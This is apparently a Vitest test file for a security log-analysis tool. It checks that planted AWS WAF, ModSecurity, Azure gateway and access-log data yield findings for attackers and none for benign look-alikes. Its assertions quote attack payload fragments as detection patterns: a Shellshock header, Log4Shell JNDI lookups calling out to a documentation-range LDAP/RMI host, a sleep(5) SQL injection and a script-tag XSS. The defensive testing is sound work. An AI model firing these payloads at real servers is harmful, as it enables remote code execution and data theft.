// Round 7, web application firewalls and attacks carried in headers: a WAF's blocks are alerts on
// the client, one finding per client with its numbers, and what matters most is what got through
// (a request no rule matched, a rule only counted, a WAF in detection mode). Each attack sits beside
// a look-alike: the company's own Nessus scan blocked from inside, health checks by numeric Host
// (920350) and without a User-Agent, shoppers searching for "union select committee", long in-app
// browser agents and referrers from searches for SQL words.
import { afterAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../../src/shared/model';
import { analysePlanted, cleanupPlanted, expectFound, listFindings, logFiles, RANK } from './plantedKit';
import * as W from './planted7waf/waf';

afterAll(cleanupPlanted);

const atLeast = (found: Finding[], sev: 'medium' | 'high'): string[] => found.filter((f) => RANK[f.severity] >= RANK[sev]).map((f) => `${f.detector}:${f.entity}`).sort();

describe('round 7 WAF: AWS WAF full logs', () => {
  it('one finding for 240 blocks from 185.220.101.45, with what got through (inline-comment UNION, Log4Shell counted in the User-Agent); Nessus from inside is medium; health checks are low', async () => {
    const found = await analysePlanted('planted7waf', (dir) => {
      const { put, files } = logFiles(dir);
      put('aws-waf-shop-acl.log', W.awsWaf());
      return files;
    });
    const atk = expectFound(found, 'idsAlerts', '185.220.101.45', 'high');
    expect(atk.title).toMatch(/^WAF alerts from 185\.220\.101\.45/);
    expect(atk.numbers.blocked).toBe(240);
    expect(atk.numbers.alerts).toBe(241);
    // six UNION requests no rule matched and the Log4Shell lookup the KnownBadInputs group only counted
    expect(atk.numbers.passedPayloads).toBe(7);
    expect(atk.explanation).toMatch(/Through the WAF: 7 request\(s\)/);
    expect(atk.explanation).toMatch(/SQLi_QUERYARGUMENTS/);
    expect(atk.explanation).toMatch(/Log4JRCE_HEADER/);
    expect(atk.explanation).toMatch(/idsAlerts\.minAlerts/);
    // one client, one finding of each kind, not one per block
    expect(found.filter((f) => f.entity === '185.220.101.45' && f.detector === 'idsAlerts')).toHaveLength(1);
    const web = expectFound(found, 'webAttacks', '185.220.101.45', 'high');
    expect(web.numbers.blocked).toBe(240);
    expect(web.explanation).toMatch(/blocked 240 of them; 7 were not blocked/);
    expect(web.explanation).toMatch(/in the User-Agent header/);

    // the company's Nessus: worth a finding, never high, from any detector
    const nessus = expectFound(found, 'idsAlerts', '10.20.0.15', 'medium');
    expect(nessus.severity).toBe('medium');
    expect(nessus.numbers.passedPayloads).toBe(0);
    expect(nessus.explanation).toMatch(/one step lower \(medium\) because the WAF dropped every alert/);
    const scan = expectFound(found, 'scanners', '10.20.0.15', 'medium');
    expect(scan.explanation).toMatch(/vulnerability-management scanner/);
    expect(found.filter((f) => f.entity === '10.20.0.15' && RANK[f.severity] > RANK.medium), listFindings(found)).toEqual([]);

    // health checks without a User-Agent (a COUNT rule) are in the low group only; shoppers nowhere
    const low = expectFound(found, 'idsAlerts', 'low-priority IDS alerts', 'low');
    expect(low.title).toMatch(/^Low-priority WAF alerts/);
    expect(low.explanation).toMatch(/NoUserAgent_HEADER/);
    expect(found.filter((f) => /^10\.0\.[01]\./.test(f.entity) || /^81\.2\./.test(f.entity) || /sources?$/.test(f.entity)), listFindings(found)).toEqual([]);
    expect(atLeast(found, 'medium')).toEqual(['idsAlerts:10.20.0.15', 'idsAlerts:185.220.101.45', 'scanners:10.20.0.15', 'webAttacks:10.20.0.15', 'webAttacks:185.220.101.45']);
  });
});

describe('round 7 WAF: ModSecurity (CRS anomaly scoring) in the Apache error log beside the access log', () => {
  it("ties each 942100 warning to its transaction's 949110 block, and finds the double-encoded injection that got through answered 200; 920350 health checks are not attacks", async () => {
    const found = await analysePlanted('planted7waf', (dir) => {
      const { put, files } = logFiles(dir);
      const m = W.modsecApache();
      put('error.log', m.error);
      put('access.log', m.access);
      return files;
    });
    const atk = expectFound(found, 'idsAlerts', '45.146.164.110', 'high');
    expect(atk.title).toMatch(/^WAF alerts from 45\.146\.164\.110: 240 rule match\(es\), 240 blocked/);
    // the warnings are blocked through their transaction, not "allowed"
    expect(atk.explanation).toMatch(/«SQL Injection Attack Detected via libinjection» ×120 \(priority 1, all blocked\)/);
    expect(atk.numbers.passedPayloads).toBe(4);
    expect(atk.explanation).toMatch(/sleep\(5\)/);
    expect(atk.explanation).toMatch(/answered 200/);
    expect(atk.explanation).toMatch(/not lowered although the WAF blocked every alert at that rank/);
    expectFound(found, 'scanners', '45.146.164.110', 'high');
    // 920350 on the balancer's health checks: only in the low group
    const low = expectFound(found, 'idsAlerts', 'low-priority IDS alerts', 'low');
    expect(low.explanation).toMatch(/Host header is a numeric IP address/);
    expect(found.filter((f) => /^10\.0\.0\./.test(f.entity)), listFindings(found)).toEqual([]);
    expect(atLeast(found, 'medium')).toEqual(['idsAlerts:45.146.164.110', 'scanners:45.146.164.110', 'webAttacks:45.146.164.110']);
  });

  it('without the access log, a client whose every request was blocked is one step lower', async () => {
    const found = await analysePlanted('planted7waf', (dir) => {
      const { put, files } = logFiles(dir);
      put('error.log', W.modsecApache().error);
      return files;
    });
    const atk = expectFound(found, 'idsAlerts', '45.146.164.110', 'medium');
    expect(atk.severity).toBe('medium');
    expect(atk.explanation).toMatch(/None of 45\.146\.164\.110's requests seen carrying an attack payload got through/);
  });
});

describe('round 7 WAF: Azure Application Gateway in detection mode', () => {
  it('a command injection the WAF only detected is high, counted once per request; the gateway probes by address are low', async () => {
    const found = await analysePlanted('planted7waf', (dir) => {
      const { put, files } = logFiles(dir);
      put('PT1H.json', W.azureDetection());
      return files;
    });
    const atk = expectFound(found, 'idsAlerts', '91.240.118.172', 'high');
    expect(atk.numbers.blocked).toBe(0);
    expect(atk.explanation).toMatch(/let every one of them through \(COUNT or detection mode\)/);
    expect(atk.explanation).toMatch(/Remote Command Execution: Unix Command Injection/);
    // two rows per request (932100 and the 949110 verdict): 14 requests, not 28
    expect(atk.numbers.passedPayloads).toBe(14);
    expect(expectFound(found, 'webAttacks', '91.240.118.172', 'high').numbers.payloadRequests).toBe(14);
    expect(found.filter((f) => /^10\.1\.0\./.test(f.entity)), listFindings(found)).toEqual([]);
    expect(atLeast(found, 'medium')).toEqual(['idsAlerts:91.240.118.172', 'webAttacks:91.240.118.172']);
  });
});

describe('round 7 headers: attacks in the User-Agent and Referer of a combined access log', () => {
  it('finds Shellshock, Log4Shell (plain, hidden by lookups, percent-encoded), SQL injection in the agent and XSS in the referrer, naming the header; long agents and search referrers are quiet', async () => {
    const found = await analysePlanted('planted7waf', (dir) => {
      const { put, files } = logFiles(dir);
      put('access.log', W.headerAttacks());
      return files;
    });
    const shock = expectFound(found, 'webAttacks', '203.0.113.10', 'high');
    expect(shock.title).toMatch(/Shellshock/);
    expect(shock.explanation).toMatch(/«\(\) \{ :; \}; \/bin\/bash…»/);
    expect(shock.explanation).toMatch(/1 of them in the User-Agent header, not the URL/);
    // the whole lookup, callback address included
    expect(expectFound(found, 'webAttacks', '203.0.113.11', 'high').explanation).toMatch(/«\$\{jndi:ldap:\/\/203\.0\.113\.11:1389\/exploit\}»/);
    expect(expectFound(found, 'webAttacks', '203.0.113.12', 'high').explanation).toMatch(/\$\{jndi:rmi:\/\/203\.0\.113\.12\/a\}/);
    expect(expectFound(found, 'webAttacks', '203.0.113.13', 'high').explanation).toMatch(/\$\{jndi:ldap:\/\/x\.203\.0\.113\.13\.nip\.io\/a\}/);
    expect(expectFound(found, 'webAttacks', '203.0.113.17', 'high').numbers.inUserAgent).toBe(1);
    const sqli = expectFound(found, 'webAttacks', '203.0.113.14', 'medium');
    expect(sqli.explanation).toMatch(/sleep\(5\)/);
    const xss = expectFound(found, 'webAttacks', '203.0.113.15', 'medium');
    expect(xss.numbers.inReferer).toBe(1);
    expect(xss.explanation).toMatch(/<script>alert\(doc/);
    expect(found.filter((f) => /^198\.51\.100\./.test(f.entity)), listFindings(found)).toEqual([]);
    expect(atLeast(found, 'medium')).toEqual(['203.0.113.10', '203.0.113.11', '203.0.113.12', '203.0.113.13', '203.0.113.14', '203.0.113.15', '203.0.113.17'].map((ip) => `webAttacks:${ip}`));
  });
});
